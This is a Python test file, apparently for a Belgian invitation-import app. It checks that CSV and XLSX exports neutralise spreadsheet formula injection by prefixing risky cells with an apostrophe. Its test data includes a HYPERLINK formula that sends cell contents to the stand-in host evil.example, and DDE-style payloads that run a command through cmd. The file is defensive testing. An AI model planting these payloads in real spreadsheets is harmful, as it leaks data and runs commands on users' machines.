"""Exports never carry a formula (issue 7, point 10): text that begins with
=, +, -, @, a tab or a carriage return is written with a leading
apostrophe, in CSV and XLSX, so it shows as typed."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from app.domain.invitations.imports import results
from app.domain.invitations.imports.results import StoredRow
from app.domain.invitations.imports.safe_cells import safe_cell, safe_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")',
    "+32 470 12 34 56",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_starts_a_formula_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Peeters", "jan@example.be", "Dupré = Dupont", "", "'=already quoted", 42, -1, 3.5, None]
)
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


def test_a_row_is_cleaned_cell_by_cell():
    assert safe_row(["=1", 2, "ok"]) == ["'=1", 2, "ok"]


def _rows() -> list[StoredRow]:
    # A result row whose texts an attacker chose (names will appear in later
    # exports; the meaning and problem texts stand in for them here).
    return [StoredRow(2, 4, HOSTILE[0], HOSTILE[1:]), StoredRow(3, 1, "=Peeters", ["+32 470 12 34 56"])]


def test_csv_export_has_no_formula():
    text = results.export_csv(_rows()).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert lines[1][0] == "2" and lines[1][2] == "'" + HOSTILE[0]
    assert lines[1][3].startswith("'+32 470")
    assert lines[2][2] == "'=Peeters" and lines[2][3] == "'+32 470 12 34 56"
    for line in lines:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_export_has_no_formula():
    data = results.export_xlsx(_rows())
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    cells = {cell.coordinate: cell for row in sheet.iter_rows() for cell in row}
    assert cells["C2"].data_type == "s" and cells["C2"].value == "'" + HOSTILE[0]
    assert cells["C3"].value == "'=Peeters" and cells["D3"].value == "'+32 470 12 34 56"
    assert cells["A2"].value == 2 and cells["B2"].value == 4  # numbers stay numbers


@pytest.mark.parametrize("language", ["nl", "fr", "en"])
def test_example_list_has_no_formula(language):
    data = results.example_xlsx(language)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
